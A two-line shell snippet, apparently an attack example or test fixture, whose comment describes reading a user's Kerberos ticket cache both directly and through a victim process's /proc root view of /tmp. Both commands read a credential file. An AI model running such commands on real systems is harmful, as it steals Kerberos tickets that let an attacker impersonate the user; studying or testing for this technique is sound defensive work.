# what: read the user's Kerberos ticket cache /tmp/krb5cc_1000, directly and through an outside process's view of /tmp
cat /tmp/krb5cc_1000
cat "/proc/$VICTIM/root/tmp/krb5cc_1000"
